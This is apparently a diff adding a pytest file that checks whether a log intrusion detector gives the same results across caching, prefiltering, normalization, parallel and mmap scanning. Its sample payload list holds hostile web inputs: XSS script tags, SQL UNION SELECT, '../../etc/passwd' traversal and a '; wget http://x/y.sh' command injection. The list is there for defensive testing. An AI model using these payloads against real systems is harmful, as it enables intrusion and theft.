@@ -0,0 +1,144 @@
+# test_detection.py
+
+# Detection results must not depend on how the scan is sped up: prefilters, the
+# line cache, normalization, process-pool sharding and mmap all give the same output.
+import itertools
+import random
+
+import pytest
+
+import backend
+
+TRACE_OFF = backend.Tracer(backend.TRACE_OFF)
+
+def sample_logs(count=600, seed=11):
+    rng = random.Random(seed)
+    payloads = ["<script>alert(1)</script>", "%3Cscript%3Ealert(1)", "1 UNION+SELECT password", "../../etc/passwd",
+                "&lt;script&gt;", "union%20%20select", "; wget http://x/y.sh", "cmd.exe /c dir"]
+    logs = []
+    for _ in range(count):
+        line = "GET /" + "".join(rng.choice("abcdefgh/=?&") for _ in range(rng.randint(0, 60)))
+        if rng.random() < 0.3:
+            line += " " + rng.choice(payloads)
+        logs.append(line)
+    # Repeated lines exercise block de-duplication and cache hits
+    return logs + logs[:100]
+
+def comparable(detections):
+    return [(log, pattern, attack_type, indices, count) for log, pattern, attack_type, _, indices, count in detections]
+
+@pytest.mark.parametrize("normalize", [False, True])
+@pytest.mark.parametrize("all_matches", [False, True])
+def test_prefilter_cache_and_normalize_combinations_agree(normalize, all_matches):
+    logs = sample_logs()
+    rule_set = backend.compile_rule_set(backend.attack_patterns, normalize=normalize)
+    expected = comparable(backend.detect_intrusions(logs, rule_set, "naive", TRACE_OFF, all_matches=all_matches))
+    assert expected
+    for method, prefilter, use_cache in itertools.product(backend.DETECTION_METHODS, backend.PREFILTERS,
+                                                          [False, True]):
+        cache = backend.LineResultCache() if use_cache else None
+        # The second pass is answered from the cache when there is one
+        for _ in range(2 if use_cache else 1):
+            stats = backend.PrefilterStats()
+            detections = backend.detect_intrusions(logs, rule_set, method, TRACE_OFF, prefilter, stats, cache,
+                                                   all_matches)
+            assert comparable(detections) == expected, (method, prefilter, use_cache)
+        if use_cache:
+            assert cache.hits >= len(set(logs))
+
+def test_normalize_finds_encoded_payloads():
+    logs = ["GET /?q=%3Cscript%3Ealert(1)", "GET /?id=1 UNION+SELECT password"]
+    plain = backend.detect_intrusions(logs, backend.compile_rule_set(backend.attack_patterns), "kmp", TRACE_OFF)
+    normalized = backend.detect_intrusions(logs, backend.compile_rule_set(backend.attack_patterns, normalize=True),
+                                           "kmp", TRACE_OFF)
+    assert len(normalized) == 2 > len(plain)
+    # Indices point into the original line
+    assert normalized[0][4] == [logs[0].index("%3C")]
+
+@pytest.fixture
+def two_cores(monkeypatch):
+    # The pool is capped at the core count, so pretend there are two
+    monkeypatch.setattr(backend.os, "cpu_count", lambda: 2)
+    yield
+    backend.shutdown_detection_pool()
+
+@pytest.mark.parametrize("prefilter", backend.PREFILTERS)
+def test_parallel_detections_keep_line_order(two_cores, prefilter):
+    logs = sample_logs(1500)
+    rule_set = backend.compile_rule_set(backend.attack_patterns)
+    expected = list(backend.iter_detections(logs, rule_set, "aho_corasick", TRACE_OFF, all_matches=True))
+    stats = backend.PrefilterStats()
+    found = list(backend.iter_detections_parallel(logs, rule_set, "aho_corasick", workers=2, shard_size=100,
+                                                  tracer=TRACE_OFF, prefilter=prefilter, prefilter_stats=stats,
+                                                  all_matches=True))
+    assert [(position, comparable([detection])) for position, detection in found] == \
+        [(position, comparable([detection])) for position, detection in expected]
+    if prefilter != backend.PREFILTER_NONE:
+        assert stats.lines == len(set(logs))
+
+def test_parallel_detections_fill_and_use_the_cache(two_cores):
+    logs = sample_logs(1500)
+    rule_set = backend.compile_rule_set(backend.attack_patterns)
+    cache = backend.LineResultCache()
+    expected = comparable(backend.detect_intrusions(logs, rule_set, "kmp", TRACE_OFF))
+    first = backend.detect_intrusions_parallel(logs, rule_set, "kmp", workers=2, shard_size=100, tracer=TRACE_OFF,
+                                               cache=cache)
+    second = backend.detect_intrusions_parallel(logs, rule_set, "kmp", workers=2, shard_size=100, tracer=TRACE_OFF,
+                                                cache=cache)
+    assert comparable(first) == comparable(second) == expected
+    assert cache.hits == len(set(logs))
+
+def test_line_cache_evicts_least_recently_used_within_byte_budget():
+    rule_set = backend.compile_rule_set(backend.attack_patterns)
+    clean_entry = backend._CACHE_ENTRY_OVERHEAD
+    cache = backend.LineResultCache(max_bytes=3 * clean_entry)
+    keys = {log: cache.key(log, rule_set) for log in ("a", "b", "c", "d")}
+    for log in "abc":
+        cache.store(keys[log], [])
+    assert cache.current_bytes == 3 * clean_entry
+    assert cache.lookup(keys["a"], "a", "kmp", TRACE_OFF) == (True, [])
+    cache.store(keys["d"], [])
+    assert cache.evictions == 1
+    assert cache.current_bytes == 3 * clean_entry
+    assert cache.lookup(keys["b"], "b", "kmp", TRACE_OFF) == (False, [])
+    for log in "acd":
+        assert cache.lookup(keys[log], log, "kmp", TRACE_OFF)[0]
+
+def test_line_cache_sizes_entries_by_indices_and_skips_oversized_ones():
+    rule_set = backend.compile_rule_set(backend.attack_patterns)
+    log = "<script>" * 50
+    detections = backend.detect_intrusions([log], rule_set, "kmp", TRACE_OFF)
+    cache = backend.LineResultCache(max_bytes=backend._CACHE_ENTRY_OVERHEAD + 64)
+    key = cache.key(log, rule_set)
+    cache.store(key, detections)
+    assert cache.to_dict()["entries"] == 0
+    cache = backend.LineResultCache()
+    cache.store(key, detections)
+    assert cache.current_bytes == backend._CACHE_ENTRY_OVERHEAD + 64 + 8 * 50
+    hit, cached = cache.lookup(key, log, "kmp", TRACE_OFF)
+    assert hit and comparable(cached) == comparable(detections)
+
+def test_line_cache_keys_depend_on_rules_and_match_mode_not_case():
+    rules = backend.compile_rule_set(backend.attack_patterns)
+    other_rules = backend.compile_rule_set(backend.attack_patterns[:5])
+    key = backend.LineResultCache.key("GET /<Script>", rules)
+    assert key == backend.LineResultCache.key("get /<script>", rules)
+    assert key != backend.LineResultCache.key("GET /<Script>", other_rules)
+    assert key != backend.LineResultCache.key("GET /<Script>", rules, all_matches=True)
+
+@pytest.mark.parametrize("method", backend.BYTE_METHODS)
+def test_mmap_scan_matches_line_scan(tmp_path, monkeypatch, method):
+    logs = [log for log in sample_logs() if "%" not in log and "&" not in log]
+    lines = ["", "   "] + [("\t" if i % 3 else "") + log + (" \r" if i % 2 else "") for i, log in enumerate(logs)]
+    path = tmp_path / "access.log"
+    path.write_bytes("\n".join(lines).encode("utf-8"))
+    rule_set = backend.compile_rule_set(backend.attack_patterns)
+    expected = [(position + 1, pattern, indices)
+                for position, (_, pattern, _, _, indices, _) in backend.iter_detections(
+                    [line.strip() for line in lines], rule_set, method, TRACE_OFF)]
+    # Small chunks put chunk boundaries inside and between lines
+    for chunk_bytes in (backend.MMAP_CHUNK_BYTES, 97):
+        monkeypatch.setattr(backend, "MMAP_CHUNK_BYTES", chunk_bytes)
+        found = [(line_number, detection[1], detection[4])
+                 for line_number, detection in backend.iter_file_detections_mmap(str(path), rule_set, method)]
+        assert found == expected